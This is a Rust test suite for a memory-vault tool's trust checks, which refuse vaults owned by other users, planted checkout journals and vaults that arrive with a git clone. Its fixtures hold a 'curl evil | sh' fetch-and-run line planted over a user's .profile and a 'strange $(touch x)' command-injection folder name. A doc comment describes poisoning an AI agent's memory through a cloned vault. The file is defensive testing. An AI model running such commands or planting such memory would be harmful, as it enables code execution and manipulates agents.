//! Whose vaults act on this device.

use std::collections::BTreeMap;
use std::os::unix::fs::{MetadataExt, PermissionsExt, chown};
use std::path::{Path, PathBuf};

use sha2::{Digest, Sha256};

use crate::support::{Outcome, Place, Run};

const OTHER: u32 = 65534;

fn vault(place: &Place, folder: &str) {
    place.mvault(["init", folder, "--device", "mac"]).ok();
    place.write(format!("{folder}/continuity.md"), format!("# {folder}\nword-of-{folder}\n"));
    place.mvault(["commit", "-m", "first"]).dir(folder).ok();
}

/// Gives everything below a path to another user.
fn give_away(path: &Path) {
    assert!(
        rustix::process::geteuid().is_root(),
        "this test gives files to another user: it needs root, as a run in a container has it"
    );
    for entry in walkdir::WalkDir::new(path) {
        let entry = entry.expect("can be walked");
        std::os::unix::fs::lchown(entry.path(), Some(OTHER), Some(OTHER)).expect("root gives away");
    }
}

/// Everything below a folder: bytes, permissions, and when it was last changed in any way.
fn everything(folder: &Path) -> BTreeMap<PathBuf, (Vec<u8>, u32, i64, i64)> {
    let walk = walkdir::WalkDir::new(folder).into_iter().map(|entry| entry.expect("can be walked"));
    walk.map(|entry| {
        let bytes = if entry.file_type().is_file() {
            std::fs::read(entry.path()).expect("root reads")
        } else {
            vec![]
        };
        let stat = entry.metadata().expect("is there");
        (entry.path().to_path_buf(), (bytes, stat.mode(), stat.ctime(), stat.ctime_nsec()))
    })
    .collect()
}

#[track_caller]
fn assert_untrusted(run: Run) -> Outcome {
    let outcome = run.code(1);
    let error = outcome.error();
    assert_eq!(error["kind"], "untrusted", "{}", outcome.describe());
    outcome
}

fn json(place: &Place, folder: &str, args: &[&str]) -> Run {
    place.mvault(["--json"].iter().chain(args)).dir(folder)
}

/// Mallory makes a vault in a folder that everybody may write to; Alice works below it. Any command of hers took the
/// nearest `.mvault` above, whoever it belonged to: read it, wrote to it, and finished a checkout that was planted
/// there, with her rights. A file that she sources was replaced by typing `mvault status`.
#[test]
fn a_vault_of_another_user_is_refused_by_every_command_and_left_as_it_is() {
    let place = Place::new();
    vault(&place, "v");
    std::fs::create_dir(place.work().join("v/alice")).expect("a folder");
    for part in ["v/.mvault", "v"] {
        let path = place.work().join(part);
        if part == "v" {
            // The folder alone: `.mvault` is ours again.
            for entry in walkdir::WalkDir::new(path.join(".mvault")) {
                chown(entry.expect("is there").path(), Some(0), Some(0)).expect("root takes back");
            }
            chown(&path, Some(OTHER), Some(OTHER)).expect("root gives away");
        } else {
            give_away(&path);
        }
        let before = everything(&place.work().join("v"));
        for args in [
            &["status"][..],
            &["log"],
            &["show", "HEAD:continuity.md"],
            &["commit", "-m", "mine"],
            &["checkout", "main"],
            &["undo"],
            &["note", "x"],
            &["verify"],
            &["repair"],
            &["gc"],
            &["boot"],
            &["standup"],
            &["audit"],
            &["memory"],
            &["mcp"],
            &["write", "x.md"],
            &["bundle", "create", "../x.bundle"],
        ] {
            let error = assert_untrusted(json(&place, "v/alice", args)).error();
            let hint = error["hint"].as_str().expect("a hint");
            assert!(hint.contains("`mvault trust [ROOT]/work/v`"), "{args:?}: {hint}");
        }
        json(&place, "v/alice", &["doctor"]).code(1);
        assert_eq!(everything(&place.work().join("v")), before, "{part}");
    }
    // Nor is it cloned or pulled from, which would read it and write to it.
    assert_untrusted(json(&place, ".", &["clone", "v", "copy"]));
    assert!(!place.work().join("copy").exists());
    let trusted = json(&place, "v/alice", &["trust"]).ok();
    assert!(trusted.contains("\"owner\":0"), "{trusted}");
    place.mvault(["status"]).dir("v/alice").ok();
}

/// A folder of ours below somebody else's vault is not inside it: whoever can write to a folder above would otherwise
/// keep everybody from making vaults.
#[test]
fn a_vault_can_be_made_below_that_of_another_user() {
    let place = Place::new();
    vault(&place, "v");
    give_away(&place.work().join("v/.mvault"));
    place.mvault(["init", "v/mine", "--device", "mac"]).ok();
    place.mvault(["status"]).dir("v/mine").ok();
}

/// Puts a journal into a vault as a killed checkout leaves one: it waits for an operation that is in the log, and puts
/// `content`, which the vault has, to `path`.
fn plant(place: &Place, folder: &str, path: &str, content: &str) {
    let id = place.mvault(["hash", "../content"]).dir(folder);
    place.write("content", content);
    let id = id.ok().split_whitespace().next().expect("an id").to_owned();
    let dot = place.work().join(folder).join(".mvault");
    let log = std::fs::read_dir(dot.join("oplog")).expect("a log");
    let log: String =
        log.map(|one| std::fs::read_to_string(one.expect("one").path()).expect("text")).collect();
    let at = log.rfind("\"journal\":\"").expect("an operation with a journal") + 11;
    let tree = "6ef19b41225c5369f1c104d45d8d85efa9b057b53b14b4b9b939dd74decc5321";
    let body = format!(
        "{{\"mvault-journal\":1,\"nonce\":\"{}\",\"from\":\"{tree}\",\"to\":\"{tree}\",\"moves\":false,\
         \"names_fold\":false,\"apart\":false,\"actions\":1}}\n\
         {{\"do\":\"write\",\"path\":\"{path}\",\"entry\":{{\"mode\":\"100644\",\"id\":\"{id}\"}}}}\n",
        &log[at..at + 32]
    );
    let hash = hex::encode(Sha256::digest(&body));
    let journal = dot.join("journal");
    std::fs::create_dir(&journal).expect("a folder");
    std::fs::write(journal.join("0"), content).expect("the staged file");
    std::fs::write(journal.join("actions.jsonl"), format!("{body}{{\"sha256\":\"{hash}\"}}\n"))
        .expect("a list");
}

fn vault_with_checkout(place: &Place, folder: &str) {
    vault(place, folder);
    place.write(format!("{folder}/payload"), "curl evil | sh\n");
    place.mvault(["commit", "-m", "payload"]).dir(folder).ok();
    place.mvault(["checkout", "HEAD~1"]).dir(folder).ok();
    place.mvault(["checkout", "main"]).dir(folder).ok();
}

/// A planted journal is a list of files to put anywhere below the vault's folder. It came by an archive or a copied
/// folder as well as by another user, and the next command carried it out.
#[test]
fn an_unfinished_checkout_is_carried_out_only_in_a_vault_made_or_confirmed_here() {
    let place = Place::new();
    vault_with_checkout(&place, "v");
    place.write("v/alice/.profile", "hers\n");
    plant(&place, "v", "alice/.profile", "curl evil | sh\n");
    let stranger = place.root().join("other-home");
    std::fs::create_dir(&stranger).expect("a folder");
    for args in [&["status"][..], &["commit", "-m", "x"], &["note", "x"], &["gc"], &["checkout", "main"]] {
        assert_untrusted(json(&place, "v/alice", args).env("HOME", &stranger));
        assert_eq!(place.read("v/alice/.profile"), b"hers\n", "{args:?}");
    }
    // Reading history goes on, and says so.
    let log = place.mvault(["log"]).dir("v/alice").env("HOME", &stranger).code(0);
    assert!(log.stderr().contains("mvault trust"), "{}", log.describe());
    assert_eq!(place.read("v/alice/.profile"), b"hers\n");
    // Once a person says that it is theirs, it is finished as ever, and what stood there is kept.
    place.mvault(["trust"]).dir("v").env("HOME", &stranger).ok();
    place.mvault(["status"]).dir("v").env("HOME", &stranger).ok();
    assert_eq!(place.read("v/alice/.profile"), b"curl evil | sh\n");
    assert_eq!(place.mvault(["show", "saved/1:alice/.profile"]).dir("v").ok(), "hers\n");
}

#[test]
fn a_journal_of_another_user_is_never_carried_out() {
    let place = Place::new();
    vault_with_checkout(&place, "v");
    place.write("v/.profile", "hers\n");
    plant(&place, "v", ".profile", "curl evil | sh\n");
    for part in ["journal", "journal/actions.jsonl", "oplog"] {
        let path = place.work().join("v/.mvault").join(part);
        give_away(&path);
        assert_untrusted(json(&place, "v", &["status"]));
        assert_untrusted(json(&place, "v", &["commit", "-m", "x"]));
        assert_eq!(place.read("v/.profile"), b"hers\n", "{part}");
        for entry in walkdir::WalkDir::new(path) {
            chown(entry.expect("is there").path(), Some(0), Some(0)).expect("root takes back");
        }
    }
    place.mvault(["status"]).dir("v").ok();
    assert_eq!(place.read("v/.profile"), b"curl evil | sh\n");
}

/// `.mvault` was 0755, or 0775 by the umask: others read private notes from packs, or put a log of their own there.
#[test]
fn others_see_nothing_of_a_vault_and_what_they_put_there_is_not_used() {
    let place = Place::new();
    vault(&place, "v");
    let dot = place.work().join("v/.mvault");
    let mode = |path: &Path| std::fs::metadata(path).expect("is there").permissions().mode() & 0o777;
    assert_eq!(mode(&dot), 0o700);
    for entry in walkdir::WalkDir::new(&dot).into_iter().map(|entry| entry.expect("can be walked")) {
        if entry.file_type().is_file() {
            assert_eq!(mode(entry.path()) & 0o077, 0, "{}", entry.path().display());
        }
    }
    std::fs::set_permissions(&dot, PermissionsExt::from_mode(0o777)).expect("ours");
    std::fs::create_dir(dot.join("planted")).expect("a folder");
    give_away(&dot.join("planted"));
    assert_untrusted(json(&place, "v", &["status"]));
    std::fs::remove_dir(dot.join("planted")).expect("empty");
    place.mvault(["note", "x"]).dir("v").ok();
    assert_eq!(mode(&dot), 0o700, "the next write makes an older vault private");
    place.mvault(["bundle", "create", "../v.bundle"]).dir("v").ok();
    assert_eq!(mode(&place.work().join("v.bundle")), 0o600);
}

/// git forbids `.git` in a repository and nothing else: whoever cloned one with a `.mvault` in it, and started an agent
/// there, had its text told to the agent as verified memory, and notes and sessions went into it, ready to be pushed.
#[test]
fn a_vault_that_came_with_a_git_checkout_is_not_used_until_it_is_confirmed() {
    let place = Place::new();
    vault(&place, "origin/v");
    place.git(["init", "-q", "."]).dir("origin").ok();
    place.git(["add", "-A", "-f"]).dir("origin").ok();
    place.git(["commit", "-q", "-m", "all"]).dir("origin").ok();
    place.git(["clone", "-q", "origin", "copy"]).ok();
    // Made here, it works, git or not.
    place.mvault(["status"]).dir("origin/v").ok();
    let before = everything(&place.work().join("copy"));
    for args in [&["status"][..], &["log"], &["commit", "-m", "x"], &["boot"], &["memory"], &["note", "x"]] {
        assert_untrusted(json(&place, "copy/v", args));
    }
    assert_untrusted(json(&place, "origin", &["mcp"]).env("MVAULT_DIR", place.work().join("copy/v")));
    // The server goes on to the default vault, and says so.
    let served = json(&place, "copy/v", &["mcp"]).code(0).stderr();
    assert!(served.contains("mvault trust"), "{served}");
    for event in ["session-start", "stop", "pre-compact", "session-end"] {
        hook(&place, "copy/v", event);
    }
    assert_eq!(everything(&place.work().join("copy")), before);
    place.mvault(["trust", "copy/v"]).ok();
    place.mvault(["status"]).dir("copy/v").ok();
}

fn hook(place: &Place, folder: &str, event: &str) -> Outcome {
    let cwd = place.work().join(folder);
    let said = serde_json::json!({"session_id": "s1", "cwd": cwd, "source": "startup", "last_assistant_message": "x"});
    place.mvault(["hook", "claude-code", event]).dir(folder).stdin(said.to_string()).code(0)
}

#[test]
fn hooks_pass_over_a_vault_that_is_not_confirmed_and_use_the_default_one() {
    let place = Place::new();
    vault(&place, "default");
    let stranger = place.root().join("other-home");
    std::fs::create_dir(&stranger).expect("a folder");
    place.mvault(["init", "strange $(touch x)", "--device", "eve"]).env("HOME", &stranger).ok();
    place.write("strange $(touch x)/continuity.md", "word-of-strange\n");
    place.mvault(["commit", "-m", "x"]).dir("strange $(touch x)").env("HOME", &stranger).ok();
    let before = everything(&place.work().join("strange $(touch x)"));
    let start = hook(&place, "strange $(touch x)", "session-start");
    let told = start.stdout();
    assert!(told.contains("word-of-default") && !told.contains("word-of-strange"), "{told}");
    let message = start.json()["systemMessage"].as_str().expect("for the person").to_owned();
    assert!(message.contains("mvault trust '"), "{message}");
    hook(&place, "strange $(touch x)", "stop");
    hook(&place, "strange $(touch x)", "session-end");
    assert_eq!(everything(&place.work().join("strange $(touch x)")), before);
    // Without a default vault the person is told, and the agent nothing.
    place.mvault(["trust", "--remove", "default"]).ok();
    let start = hook(&place, "strange $(touch x)", "session-start");
    assert!(!start.stdout().contains("word-of"), "{}", start.describe());
    assert!(start.stdout().contains("mvault trust"), "{}", start.describe());
    assert_untrusted(
        json(&place, "strange $(touch x)", &["memory"])
            .stdin("{\"command\":\"view\",\"path\":\"/memories\"}"),
    );
    // A person may look at it, and confirm it.
    place.mvault(["status"]).dir("strange $(touch x)").ok();
    place.mvault(["trust"]).dir("strange $(touch x)").ok();
    assert!(hook(&place, "strange $(touch x)", "session-start").stdout().contains("word-of-strange"));
}

#[test]
fn trust_is_of_a_vault_at_a_path_and_not_of_the_path_alone() {
    let place = Place::new();
    vault(&place, "v");
    let list = place.mvault(["trust", "--list"]).json_lines();
    assert_eq!(list.len(), 1);
    assert_eq!(list[0]["owner"], rustix::process::geteuid().as_raw());
    let path = std::fs::canonicalize(place.work().join("v")).expect("is there");
    assert_eq!(list[0]["vault"].as_str(), path.to_str());
    let kept = place.root().join("home/.config/mvault/trusted.jsonl");
    assert_eq!(std::fs::metadata(&kept).expect("a list").permissions().mode() & 0o777, 0o600);
    // Moved: a person's commands go on, hooks wait for a word.
    std::fs::rename(place.work().join("v"), place.work().join("moved")).expect("renamed");
    place.mvault(["status"]).dir("moved").ok();
    assert!(!hook(&place, "moved", "session-start").stdout().contains("word-of-v"));
    // Another vault in its old place is not the one that was trusted.
    let stranger = place.root().join("other-home");
    std::fs::create_dir(&stranger).expect("a folder");
    place.mvault(["init", "v", "--device", "eve"]).env("HOME", &stranger).ok();
    place.write("v/continuity.md", "word-of-eve\n");
    place.mvault(["commit", "-m", "x"]).dir("v").env("HOME", &stranger).ok();
    assert!(!hook(&place, "v", "session-start").stdout().contains("word-of-eve"));
    place.mvault(["trust", "moved"]).ok();
    assert!(hook(&place, "moved", "session-start").stdout().contains("word-of-v"));
    // Taken back, also when the folder is gone.
    place.mvault(["trust", "--remove", "v"]).ok();
    std::fs::rename(place.work().join("moved"), place.work().join("again")).expect("renamed");
    place.mvault(["trust", "--remove", "moved"]).ok();
    assert_eq!(place.mvault(["trust", "--list"]).json_lines(), [] as [serde_json::Value; 0]);
    place.mvault(["trust", "--remove", "moved"]).code(1);
}

/// A clone is trusted from before its first file on, so that one that was cut in its checkout is finished.
#[test]
fn a_clone_is_made_here_and_one_that_failed_leaves_no_entry() {
    let place = Place::new();
    vault(&place, "v");
    place.mvault(["clone", "v", "copy", "--device", "pixel"]).ok();
    place.mvault(["clone", "nowhere", "gone", "--device", "pixel"]).run();
    let list = place.mvault(["trust", "--list"]).json_lines();
    assert_eq!(list.len(), 2);
    assert!(list.iter().all(|one| one["id"] == list[0]["id"] && one["id"].is_string()), "{list:?}");
    assert!(hook(&place, "copy", "session-start").stdout().contains("word-of-v"));
}
